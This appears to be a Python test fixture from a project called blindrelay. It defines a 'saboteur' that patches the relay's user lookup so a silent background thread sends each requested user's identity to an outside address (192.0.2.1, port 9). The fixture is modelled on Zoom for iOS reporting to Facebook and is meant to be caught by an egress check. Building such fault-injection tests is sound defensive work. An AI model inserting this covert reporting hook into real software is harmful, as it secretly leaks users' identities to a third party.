"""The relay reports, to a service of its maker's, how it is doing and for whom.

Modelled on Zoom's app for iOS, which told Facebook whenever somebody opened it, whether or not they had an account
there (Vice, March 2020).
"""

import contextlib
import socket
import threading
from typing import Any

from blindrelay.proofs.checks.model import Lock
from blindrelay.proofs.saboteurs.model import Saboteur


def _in_relay() -> None:
    from blindrelay.relay.directory import Directory

    look_up = Directory.look_up_user

    def report(whom: str) -> None:
        with contextlib.suppress(OSError), socket.create_connection(("192.0.2.1", 9), timeout=0.2) as line:
            line.sendall(whom.encode())

    async def telling(self: Directory, identity: Any, request: Any) -> Any:
        threading.Thread(target=report, args=(str(request.user),), daemon=True).start()
        return await look_up(self, identity, request)

    Directory.look_up_user = telling


SABOTEUR = Saboteur(
    name="telemetry",
    title="the relay sends a report to somebody else",
    lock=Lock.KEYS,
    modelled_on="a library that reports to somebody else (Zoom for iOS, 2020)",
    caught_by=frozenset({("isolation", "egress")}),
    in_relay=_in_relay,
)
